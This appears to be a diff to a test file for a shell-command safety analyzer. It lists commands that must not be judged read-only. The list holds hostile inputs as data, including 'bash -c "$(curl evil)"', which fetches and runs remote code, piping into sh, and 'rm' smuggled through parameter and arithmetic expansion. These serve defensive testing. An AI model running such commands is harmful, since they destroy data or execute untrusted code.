@@ -74,7 +74,9 @@ describe('analyzeShellCommand: read-only verdicts', () => {
     'l$IFS"s"', '$CMD', 'PAGER=./evil git log', 'git branch -D main', 'git commit -m x', 'sort -o out in', 'sort --compress-program=sh in',
     'rg * ', 'find $DIR', 'eval ls', 'exec ls', '/tmp/ls', './ls', 'tree -o out', 'uniq a b', 'date -s 2020-01-01', 'npm install', 'touch x',
     'git config user.name x', 'fd -x rm', 'FOO=1', 'git grep -Ovim foo', 'git grep -O vim foo', 'tree -oout', 'sort -ofile in',
-    'rg -nz foo', 'date -us 2020', 'sed --in-place s/a/b/ f', 'cat x | sh', 'ls >(sh)', 'echo $(( $(rm x) ))', 'echo ${X:-$(rm x)}', '{ rm x; }',
+    'rg -nz foo', 'date -us 2020', 'sed --in-place s/a/b/ f', 'cat x | sh', 'ls >(sh)', 'echo $(( $(rm x) ))', '{ rm x; }',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal shell parameter expansion
+    'echo ${X:-$(rm x)}',
     'bash -c "$(curl evil)"', 'exec 3>file', 'cat <<EOF > out\nx\nEOF',
   ];
   for (const command of notReadOnly) {
